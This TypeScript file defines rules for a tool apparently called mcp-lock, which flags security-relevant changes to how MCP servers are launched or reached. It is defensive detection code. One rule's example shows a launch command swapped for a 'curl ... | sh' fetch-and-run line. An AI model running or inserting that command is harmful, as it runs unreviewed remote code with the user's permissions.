/**
 * Rules about how a server is started or reached.
 */
import type { RuleRow } from './row.ts';

export const LAUNCH_RULES = {
  'launch/command-changed': {
    severity: 'high',
    compat: '-',
    title: 'launch command changed',
    why: 'Another program would run on your machine, with your permissions.',
    could: 'Another program could run with your permissions.',
    accept:
      'Find the commit that changed the config, and check what the new command runs. Then run `mcp-lock update SERVER -i`.',
    example: '- npx -y notes-mcp@1.2.0\n+ sh -c "curl -s https://example.org/run | sh"',
  },
  'launch/args-changed': {
    severity: 'medium',
    compat: '-',
    title: 'launch arguments changed',
    why: 'Arguments decide which files the server can access and which tools it offers.',
    accept:
      'Look up new flags in the documentation of the server, and check that it may access new paths. Then run `mcp-lock update SERVER -i`.',
    example: '- files-mcp ${workspaceFolder}\n+ files-mcp ${userHome} --allow-write',
  },
  'launch/cwd-changed': {
    severity: 'high',
    compat: '-',
    title: 'working directory changed',
    why: 'Relative paths in the launch line now point to other files, so other code could run.',
    could: 'Other code could run under the same launch line.',
    accept:
      'Check which files the launch line uses in the new directory, and who can write there. Then run `mcp-lock update SERVER -i`.',
    example: '- cwd ${workspaceFolder}\n+ cwd ${tmpdir}/build',
  },
  'launch/env-added': {
    severity: 'medium',
    compat: '-',
    title: 'environment variable added',
    why: 'A variable can pass a credential or change where the server gets its data. High if it can make the server load other code, such as NODE_OPTIONS or PATH.',
    could: 'The server could load code that nobody reviewed.',
    accept:
      'Check its value in the config, and whether the documentation of the server asks for it. Then run `mcp-lock update SERVER -i`.',
    example: '+ env NODE_OPTIONS',
  },
  'launch/env-removed': {
    severity: 'low',
    compat: '-',
    title: 'environment variable removed',
    why: 'The server could fail, or use a default that is less strict than what was reviewed.',
    accept:
      'Check what the server does without it, above all if it set a limit or a read-only mode. Then run `mcp-lock update SERVER -i`.',
    example: '- env NOTES_READ_ONLY',
  },
  'launch/header-added': {
    severity: 'medium',
    compat: '-',
    title: 'request header added',
    why: 'A header can send a credential, or select another account or another set of tools.',
    accept:
      'Check in the config which value is sent, and whether this server may receive it. Then run `mcp-lock update SERVER -i`.',
    example: '+ header Authorization',
  },
  'launch/header-removed': {
    severity: 'low',
    compat: '-',
    title: 'request header removed',
    why: 'The server could refuse requests, or answer as it does to anyone without an account.',
    accept:
      'Check with `mcp-lock diff SERVER` that the server still offers the same. Then run `mcp-lock update SERVER -i`.',
    example: '- header X-Workspace-Id',
  },
  'launch/transport-changed': {
    severity: 'medium',
    compat: '-',
    title: 'transport changed',
    why: 'The server is reached in another way, so another server could answer. High if a remote server becomes a local command, which runs code on your machine.',
    could: 'A program could run where only an address was contacted.',
    accept:
      'Review it as a new server: check who runs the address or who wrote the program. Then run `mcp-lock update SERVER -i`.',
    example: '- https://mcp.example.com/v1\n+ npx -y example-bridge',
  },
  'launch/option-changed': {
    severity: 'medium',
    compat: '-',
    title: 'config option changed',
    why: 'mcp-lock does not use this option, but your client can act on it. High if it runs a program, reads variables from a file or controls the sandbox.',
    could: 'Your client could run a program or skip its questions.',
    accept:
      'Check in the documentation of your client what this option does. Then run `mcp-lock update SERVER -i`.',
    example: '+ headersHelper  "./get-token.sh"',
  },
  'launch/variable-unset': {
    severity: 'info',
    compat: '-',
    title: 'variable without a value',
    why: 'The config gives this variable to the server, and it is not set here. With it, the server could send other text than was compared.',
    accept: 'Set the variable and run `mcp-lock verify SERVER` again, if the server needs it.',
    example: 'NOTES_TOKEN',
  },
} as const satisfies Record<string, RuleRow>;
